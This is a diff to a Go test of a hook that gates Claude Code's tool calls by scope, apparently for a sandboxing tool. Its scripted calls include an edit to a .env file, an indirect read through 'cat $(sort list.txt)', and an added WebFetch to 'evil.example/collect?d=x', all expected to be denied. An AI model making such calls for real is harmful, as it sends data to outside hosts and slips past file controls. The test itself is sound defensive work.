@@ -60,6 +60,7 @@ func runClaudeCodeHooks(t *testing.T, claude, mode string) {
 		{"Edit", map[string]any{"file_path": filepath.Join(w.proj, ".env"), "old_string": "KEY", "new_string": "y"}},
 		{"Bash", map[string]any{"command": "cat $(sort list.txt)", "description": "indirect read"}},
 		{"Read", map[string]any{"file_path": filepath.Join(w.proj, "a.txt")}},
+		{"WebFetch", map[string]any{"url": "https://evil.example/collect?d=x", "prompt": "summarize the page"}},
 	}
 	model := newMockAnthropic(t, script)
 
@@ -111,6 +112,11 @@ func runClaudeCodeHooks(t *testing.T, claude, mode string) {
 	// 6: an allowed Read is performed by Claude Code itself.
 	if r := model.result(6); !strings.Contains(r.content, "hello from a.txt") {
 		t.Errorf("allowed Read: tool result %q", r.content)
+	}
+	// 7: a WebFetch of a host outside the scope's network is denied by the
+	// hook, with the widening that would allow it.
+	if r := model.result(7); !strings.Contains(r.content, "evil.example:443, which is not in network") || !strings.Contains(r.content, "--allow-host evil.example") {
+		t.Errorf("WebFetch of a denied host: tool result %q, want scopegate's network denial and hint", r.content)
 	}
 	if model.sawAnywhere(secretCanary) {
 		t.Error("the denied file's content reached the model")
